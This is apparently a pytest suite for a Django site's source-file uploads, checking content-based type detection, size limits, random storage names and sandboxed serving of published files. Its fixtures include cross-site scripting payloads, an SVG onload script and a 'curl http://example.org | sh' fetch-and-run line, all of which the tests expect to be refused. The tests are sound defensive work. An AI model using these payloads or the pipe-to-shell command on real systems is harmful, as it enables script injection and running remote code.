"""Source files: only safe types, judged by content; a size limit; served by a view that
checks publication, never from a public /media/ path, and never run in the site's origin."""

import hashlib
import io
import zipfile

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from investigations.models import Source
from investigations.uploads import SizeLimitedUploadHandler, detect_file_type
from tests import factories

SANDBOX = "sandbox; default-src 'none'; frame-ancestors 'none'"

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF" + b"\x00" * 32
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 24
TEXT = "Turnover of £169.6 million in 2022.\n".encode()
CSV = b"name,turnover\nAlliance Medical,169.6\n"
HTML = b"<!doctype html><script>alert(document.domain)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>'
SCRIPT_TAG_IN_TEXT = b"Annual report 2022\n\n<script>fetch('/admin/')</script>\n"
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://example.org | sh\n"
WINDOWS_PROGRAM = b"MZ\x90\x00\x03" + b"\x00" * 59
LINUX_PROGRAM = b"\x7fELF\x02\x01\x01" + b"\x00" * 57


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def stored_files(media_root):
    return [path for path in media_root.rglob("*") if path.is_file()]


def office_zip(entries):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, body in entries.items():
            archive.writestr(name, body)
    return out.getvalue()


def xlsx():
    out = io.BytesIO()
    openpyxl.Workbook().save(out)
    return out.getvalue()


DOCX = office_zip(
    {
        "[Content_Types].xml": '<Types><Override PartName="/word/document.xml" ContentType='
        '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
        "</Types>",
        "word/document.xml": "<w:document/>",
    }
)
ODS = office_zip({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"})
ODT = office_zip({"mimetype": "application/vnd.oasis.opendocument.text"})
PLAIN_ZIP = office_zip({"index.html": "<script>alert(1)</script>"})


def upload(name, data):
    return SimpleUploadedFile(name, data)


def source_with_file(name="annual-report.pdf", data=PDF, **kwargs):
    return factories.make_source(file=upload(name, data), **kwargs)


def file_url(source):
    return reverse("source_file", args=[source.slug])


def body(response):
    return b"".join(response.streaming_content)


@pytest.mark.parametrize(
    ("name", "data", "content_type"),
    [
        ("report.pdf", PDF, "application/pdf"),
        ("scan.png", PNG, "image/png"),
        ("photo.jpg", JPEG, "image/jpeg"),
        ("photo.webp", WEBP, "image/webp"),
        ("notes.txt", TEXT, "text/plain"),
        ("figures.csv", CSV, "text/csv"),
        ("accounts.xlsx", xlsx(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("letter.docx", DOCX, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("budget.ods", ODS, "application/vnd.oasis.opendocument.spreadsheet"),
        ("minutes.odt", ODT, "application/vnd.oasis.opendocument.text"),
    ],
)  # fmt: skip
def test_it_accepts_each_allowed_type_by_its_content(name, data, content_type):
    assert detect_file_type(upload(name, data)).content_type == content_type


@pytest.mark.parametrize(
    ("name", "data", "said"),
    [
        ("annual-report.html", HTML, "HTML"),
        ("annual-report.pdf", HTML, "HTML"),
        ("logo.svg", SVG, "SVG"),
        ("logo.png", b'<?xml version="1.0"?>\n' + SVG, "SVG"),
        ("notes.txt", SCRIPT_TAG_IN_TEXT, "HTML"),
        ("notes.txt", b"\xef\xbb\xbf  \n" + HTML, "HTML"),
        ("install.txt", SHELL_SCRIPT, "script"),
        ("report.pdf", WINDOWS_PROGRAM, "program"),
        ("report.pdf", LINUX_PROGRAM, "program"),
        ("site.zip", PLAIN_ZIP, "not a document"),
        ("report.js", b"alert(document.domain)", "script"),
    ],
)
def test_it_refuses_html_svg_scripts_and_programs_whatever_their_name(name, data, said):
    with pytest.raises(ValidationError) as refused:
        detect_file_type(upload(name, data))
    message = " ".join(refused.value.messages)
    assert said in message and "PDF" in message  # says what is wrong, and what would do


def test_it_refuses_a_file_over_the_size_limit(settings):
    settings.SOURCE_FILE_MAX_BYTES = 1024
    source = Source(title="Accounts", file=upload("big.csv", b"a,b\n" * 300))
    with pytest.raises(ValidationError) as refused:
        source.full_clean()
    assert "the limit is 1.0 KB" in refused.value.messages[0]


def test_no_more_of_an_upload_is_kept_once_it_passes_the_limit(settings):
    settings.SOURCE_FILE_MAX_BYTES = settings.IMPORT_MAX_UPLOAD_BYTES = 10
    handler = SizeLimitedUploadHandler()
    handler.new_file("file", "big.pdf", "application/pdf", None)
    passed_on = [handler.receive_data_chunk(b"x" * 8, start) for start in (0, 8, 16)]
    stand_in = handler.file_complete(24)
    assert passed_on == [b"x" * 8, None, None]
    assert (stand_in.name, stand_in.size, stand_in.read()) == ("big.pdf", 24, b"")


def test_an_upload_within_the_limit_is_kept_by_the_next_handler(settings):
    settings.SOURCE_FILE_MAX_BYTES = 100
    handler = SizeLimitedUploadHandler()
    handler.new_file("file", "small.pdf", "application/pdf", None)
    assert handler.receive_data_chunk(b"x" * 8, 0) == b"x" * 8
    assert handler.file_complete(8) is None


def admin_add(client, name, data):
    add_url = reverse("admin:investigations_source_add")
    form = factories.admin_form_data(client.get(add_url), title="Annual report 2022")
    return client.post(add_url, {**form, "file": upload(name, data)})


def test_the_admin_stores_nothing_of_a_refused_upload(researcher_client, media_root):
    response = admin_add(researcher_client, "annual-report.html", HTML)
    assert response.status_code == 200
    assert "HTML" in str(response.context["adminform"].form.errors["file"])
    assert not Source.objects.exists() and not stored_files(media_root)


def test_the_admin_stores_nothing_of_an_upload_over_the_limit(
    researcher_client, media_root, settings
):
    settings.SOURCE_FILE_MAX_BYTES = settings.IMPORT_MAX_UPLOAD_BYTES = 2048
    response = admin_add(researcher_client, "big.pdf", PDF + b"0" * 4096)
    assert "the limit is 2.0 KB" in str(response.context["adminform"].form.errors["file"])
    assert not Source.objects.exists() and not stored_files(media_root)


def test_the_admin_stores_an_allowed_upload(researcher_client, media_root):
    response = admin_add(researcher_client, "annual-report.pdf", PDF)
    assert response.status_code == 302
    assert Source.objects.get().original_name == "annual-report.pdf"
    assert len(stored_files(media_root)) == 1


def test_the_admin_keeps_a_long_original_name_whole(researcher_client):
    name = "Alliance Medical annual report and financial statements " * 3 + ".pdf"
    assert admin_add(researcher_client, name, PDF).status_code == 302
    assert Source.objects.get().original_name == name


def test_it_stores_a_file_under_a_random_name_and_keeps_the_original_for_display():
    first, second = source_with_file(), source_with_file()
    assert first.original_name == second.original_name == "annual-report.pdf"
    assert first.file.name != second.file.name
    assert "annual-report" not in first.file.name and first.file.name.endswith(".pdf")
    assert len(first.file.name.rsplit("/", 1)[-1]) >= 20  # too long to guess


def test_a_replaced_file_gets_its_own_checksum_and_name():
    source = source_with_file()
    source.file = upload("figures.csv", CSV)
    source.save()
    source.refresh_from_db()
    assert source.file_sha256 == hashlib.sha256(CSV).hexdigest()
    assert source.original_name == "figures.csv"


def test_the_public_page_links_to_the_file_view_and_shows_its_sha256(client):
    source = source_with_file()
    page = client.get(reverse("source_detail", args=[source.slug])).content.decode()
    assert f'href="{file_url(source)}"' in page and "annual-report.pdf" in page
    assert hashlib.sha256(PDF).hexdigest() in page
    assert "/media/" not in page


def test_it_serves_a_published_sources_file_with_debug_off(client, settings):
    settings.DEBUG = False
    source = source_with_file()
    response = client.get(file_url(source))
    assert response.status_code == 200 and body(response) == PDF


@pytest.mark.parametrize(
    ("name", "data", "content_type"),
    [
        ("report.pdf", PDF, "application/pdf"),
        ("scan.png", PNG, "image/png"),
        ("photo.jpg", JPEG, "image/jpeg"),
        ("photo.webp", WEBP, "image/webp"),
    ],
)
def test_it_shows_pdfs_and_raster_images_inline_with_their_true_type(
    client, name, data, content_type
):
    response = client.get(file_url(source_with_file(name, data)))
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"].startswith("inline")
    assert name in response["Content-Disposition"]


@pytest.mark.parametrize(
    ("name", "data"), [("figures.csv", CSV), ("notes.txt", TEXT), ("letter.docx", DOCX)]
)
def test_it_sends_every_other_type_as_a_download(client, name, data):
    response = client.get(file_url(source_with_file(name, data)))
    assert response["Content-Disposition"].startswith("attachment")
    assert name in response["Content-Disposition"]


def test_a_stored_html_file_from_before_the_checks_is_a_sandboxed_download(client):
    source = source_with_file()
    source.file.storage.save(source.file.name.replace(".pdf", ".html"), io.BytesIO(HTML))
    Source.objects.filter(pk=source.pk).update(file=source.file.name.replace(".pdf", ".html"))
    response = client.get(file_url(source))
    assert response["Content-Disposition"].startswith("attachment")
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Security-Policy"] == SANDBOX


def test_every_file_response_forbids_sniffing_and_sandboxes_the_file(client):
    response = client.get(file_url(source_with_file()))
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == SANDBOX


def test_it_hides_a_draft_sources_file_from_the_public(client):
    source = source_with_file(status=Source.Status.DRAFT)
    assert client.get(file_url(source)).status_code == 404


def test_it_hides_a_deleted_sources_file_from_the_public(client):
    source = source_with_file()
    Source.objects.filter(pk=source.pk).update(deleted_at="2026-01-01T00:00Z")
    assert client.get(file_url(source)).status_code == 404


def test_logged_in_staff_see_a_draft_sources_file(researcher_client):
    source = source_with_file(status=Source.Status.DRAFT)
    response = researcher_client.get(file_url(source))
    assert response.status_code == 200 and body(response) == PDF


def test_a_user_who_is_not_staff_does_not_see_drafts(client):
    client.force_login(factories.make_user(is_staff=False))
    source = source_with_file(status=Source.Status.DRAFT)
    assert client.get(file_url(source)).status_code == 404


def test_a_source_without_a_file_has_no_file_to_serve(client):
    assert client.get(file_url(factories.make_source())).status_code == 404


def test_the_admin_links_the_current_file_to_the_file_view(researcher_client):
    source = source_with_file(status=Source.Status.DRAFT)
    page = researcher_client.get(factories.admin_url(source)).content.decode()
    assert f'href="{file_url(source)}"' in page and "annual-report.pdf" in page
    assert "/media/" not in page
